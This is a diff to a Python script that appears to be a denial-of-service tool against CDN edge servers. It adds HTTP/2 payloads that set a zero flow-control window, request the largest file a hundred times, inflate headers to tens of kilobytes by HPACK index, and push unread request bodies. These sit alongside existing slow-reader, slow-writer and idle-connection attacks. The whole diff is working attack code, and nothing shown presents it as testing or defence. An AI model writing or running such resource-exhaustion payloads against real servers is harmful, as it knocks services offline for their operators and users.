@@ -7,8 +7,9 @@ import struct
 STREAMS = 100
 PATIENCE = 5  # seconds, for an edge that takes no more
 MAGIC = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-HEADERS, SETTINGS = 1, 4
-END_HEADERS = 4
+DATA, HEADERS, SETTINGS = 0, 1, 4
+END_STREAM, END_HEADERS = 1, 4
+NO_WINDOW = struct.pack(">HI", 4, 0)  # SETTINGS_INITIAL_WINDOW_SIZE: nothing of an answer's content may leave
 FILE = "/cdn-cgi/access/terminal.js"  # the largest there is
 
 
@@ -41,6 +42,30 @@ def heads_by_index(host):
     return "h2", MAGIC + frame(SETTINGS, 0, 0) + first + b"".join(more)
 
 
+def zero_windows(host):
+    """A hundred requests for the largest file, of which not a byte may be sent."""
+    asked = head("GET", FILE, host)
+    return "h2", MAGIC + frame(SETTINGS, 0, 0, NO_WINDOW) + b"".join(
+        frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, asked) for i in range(STREAMS)
+    )
+
+
+def zero_windows_and_heads(host):
+    """The same with heads of 28,000 bytes by index, which have been answered but for the content."""
+    asked = head("GET", FILE, host)
+    first = frame(HEADERS, END_STREAM | END_HEADERS, 1, asked + b"\x40\x01x" + text(b"v" * 4000))
+    more = (frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, asked + b"\xbe" * 7) for i in range(1, STREAMS))
+    return "h2", MAGIC + frame(SETTINGS, 0, 0, NO_WINDOW) + first + b"".join(more)
+
+
+def bodies_not_read(host):
+    """A megabyte of bodies behind requests that need none, and whose answers wait."""
+    asked = head("POST", FILE, host)
+    return "h2", MAGIC + frame(SETTINGS, 0, 0, NO_WINDOW) + b"".join(
+        frame(HEADERS, END_HEADERS, 2 * i + 1, asked) + frame(DATA, 0, 2 * i + 1, b"x" * 10_000) for i in range(STREAMS)
+    )
+
+
 def slow_readers(host):
     return "http/1.1", f"GET {FILE} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode() * 20
 
@@ -54,7 +79,7 @@ def idle(_host):
     return "h2", MAGIC + frame(SETTINGS, 0, 0)
 
 
-ALL = (heads_by_index, slow_readers, slow_writers, idle)
+ALL = (zero_windows, zero_windows_and_heads, bodies_not_read, heads_by_index, slow_readers, slow_writers, idle)
 
 
 class Attack:
